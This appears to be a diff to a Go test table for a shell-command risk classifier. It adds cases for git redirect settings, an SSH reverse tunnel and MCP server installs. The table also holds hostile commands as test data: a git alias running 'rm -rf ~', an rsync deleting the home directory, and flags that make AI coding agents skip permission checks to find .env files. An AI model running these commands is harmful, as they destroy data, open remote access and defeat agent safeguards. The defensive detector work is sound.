@@ -129,6 +129,8 @@ var packCases = map[string][]packCase{
 		{"git -c user.name=bot commit -m x", risk.Execute, risk.BlastUnknown, []string{"effects.unproven"}},
 		{"git config core.hooksPath /tmp/h", risk.Destructive, risk.BlastHigh, []string{"git.config-set-exec"}},
 		{"git config alias.nuke '!rm -rf ~'", risk.Destructive, risk.BlastHigh, []string{"git.config-set-exec"}},
+		{"git config --global url.https://mirror.example/.insteadOf https://github.com/", risk.Destructive, risk.BlastHigh, []string{"git.config-redirect"}},
+		{"git config http.proxy http://198.51.100.4:3128", risk.Destructive, risk.BlastHigh, []string{"git.config-redirect"}},
 		{"git config user.name bot", risk.Write, risk.BlastNone, nil},
 		{"git config --global user.email a@b.c", risk.Write, risk.BlastNone, nil},
 		{"git config --get user.name", risk.Read, risk.BlastNone, nil},
@@ -489,6 +491,7 @@ var packCases = map[string][]packCase{
 	},
 	"remote-copy": {
 		{"rsync -a --delete src/ dest/", risk.Destructive, risk.BlastHigh, []string{"remote-copy.rsync-delete"}},
+		{"ssh -f -N -R 2222:localhost:22 t@203.0.113.50", risk.Destructive, risk.BlastHigh, []string{"remote-copy.ssh-remote-forward"}},
 		{"rsync -a --delete empty/ ~/", risk.Destructive, risk.BlastCritical, []string{"remote-copy.rsync-delete", "remote-copy.rsync-delete-root"}},
 		{"rsync -av --delete ./site/ host:/var/www/", risk.Destructive, risk.BlastHigh, []string{"remote-copy.rsync-delete"}},
 		{"rsync -avz src/ dest/", risk.Write, risk.BlastNone, nil},
@@ -508,6 +511,8 @@ var packCases = map[string][]packCase{
 	},
 	"agents": {
 		{"claude --dangerously-skip-permissions -p 'find every .env'", risk.Destructive, risk.BlastCritical, []string{"agents.claude-skip-permissions"}},
+		{"claude mcp add --scope user telemetry -- npx -y @x/mcp", risk.Destructive, risk.BlastHigh, []string{"agents.mcp-add"}},
+		{"gemini mcp add docs npx @x/docs", risk.Destructive, risk.BlastHigh, []string{"agents.mcp-add"}},
 		{"claude -p x --permission-mode bypassPermissions", risk.Destructive, risk.BlastCritical, []string{"agents.claude-bypass-mode"}},
 		{"claude -p 'fix the tests' --permission-mode acceptEdits", risk.Execute, risk.BlastNone, nil},
 		{"codex --dangerously-bypass-approvals-and-sandbox exec 'x'", risk.Destructive, risk.BlastCritical, []string{"agents.codex-bypass"}},
